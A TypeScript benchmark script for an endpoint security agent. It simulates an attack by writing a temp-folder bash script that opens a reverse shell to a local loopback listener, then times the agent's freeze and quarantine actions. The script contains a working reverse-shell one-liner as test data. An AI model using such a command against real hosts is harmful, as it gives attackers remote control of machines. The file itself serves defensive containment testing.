/**
 * From the malicious act to the freeze and to the quarantine, on the live agent of a local installation:
 * a script in a folder for temporary files opens a reverse shell to loopback. The act's time is the kernel's
 * own time of the exec; the script then tries to leave a mark 250 ms later, which containment should prevent.
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type ApiClient, signIn } from '../support/api-client.ts';
import { startLocalInstallation } from '../support/local-installation.ts';
import { eventually } from '../support/wait.ts';
import { percentile, printResult } from './machine.ts';

const ROUNDS = Number(process.argv[2] ?? 30);
/** An agent contains ten stories an hour by itself, so each ten rounds get a new one. */
const CAP_PER_HOUR = 10;

interface Round {
  readonly toFreezeMs: number | undefined;
  readonly toQuarantineMs: number | undefined;
  readonly prevented: boolean;
}

async function round(person: ApiClient, port: number): Promise<Round> {
  const folder = mkdtempSync(join(tmpdir(), 'attack-sim-'));
  const mark = join(folder, 'mark');
  const script = join(folder, 'run.sh');
  writeFileSync(
    script,
    `#!/bin/bash\n(sleep 0.25; echo done > ${mark}) &\nexec bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1\n`,
    { mode: 0o755 },
  );
  const child = spawn('/bin/bash', ['-c', `exec ${script}`], { cwd: folder, stdio: 'ignore' });
  const ended = new Promise<void>((resolve) => child.once('close', () => resolve()));
  const timer = setTimeout(() => child.kill('SIGKILL'), 10_000);
  await ended;
  clearTimeout(timer);
  await new Promise((resolve) => setTimeout(resolve, 500));
  const prevented = !existsSync(mark);
  const story = await eventually('the incident', async () => {
    const { items } = await person.call('listIncidents', { query: { limit: '50' } });
    for (const row of items) {
      const detail = await person.call('getIncident', { path: { incidentId: row.incidentId } });
      if (JSON.stringify(detail.story).includes(folder) && detail.story.containment !== 'in-progress')
        return detail.story;
    }
    return undefined;
  });
  rmSync(folder, { recursive: true, force: true });
  const act = Math.min(...story.detections.map((detection) => detection.event.time));
  const end = (kind: string): number | undefined => {
    const times = story.actions
      .filter((action) => action.kind === kind && action.ok)
      .map((action) => action.endedAt - act);
    return times.length > 0 ? Math.min(...times) : undefined;
  };
  return { toFreezeMs: end('freeze-tree'), toQuarantineMs: end('quarantine-file'), prevented };
}

const server = createServer((socket) => socket.on('error', () => socket.destroy()));
const port = await new Promise<number>((resolve) => {
  server.listen(0, '127.0.0.1', () => {
    const address = server.address();
    resolve(typeof address === 'object' && address ? address.port : 0);
  });
});
const rounds: Round[] = [];
while (rounds.length < ROUNDS) {
  await using installation = await startLocalInstallation();
  const person = await signIn(installation.link);
  const batch = Math.min(CAP_PER_HOUR, ROUNDS - rounds.length);
  for (let i = 0; i < batch; i += 1) rounds.push(await round(person, port));
}
server.close();

const frozen = rounds.flatMap((entry) => entry.toFreezeMs ?? []);
const quarantined = rounds.flatMap((entry) => entry.toQuarantineMs ?? []);
printResult({
  benchmark: 'contain',
  rounds: ROUNDS,
  frozen: frozen.length,
  quarantined: quarantined.length,
  prevented: rounds.filter((entry) => entry.prevented).length,
  toFreezeMs: { median: percentile(frozen, 0.5), p99: percentile(frozen, 0.99) },
  toQuarantineMs: { median: percentile(quarantined, 0.5), p99: percentile(quarantined, 0.99) },
});
